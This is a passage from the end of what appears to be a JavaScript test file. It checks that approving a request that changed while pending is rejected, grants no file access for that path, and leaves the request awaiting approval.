    await expect(racing.approvals.approve({ id: 'q-3', forSeconds: 60 })).rejects.toThrow('request q-3 changed while you were asked; look again');
    expect(ownSvc.verdicts.grants(true).map((g) => g.args?.path)).not.toContainEqual({ equals: path.join(own.work, 'third.txt') });
    expect(ownSvc.requests.get('q-3')?.state).toBe('awaiting_approval');
  });
});
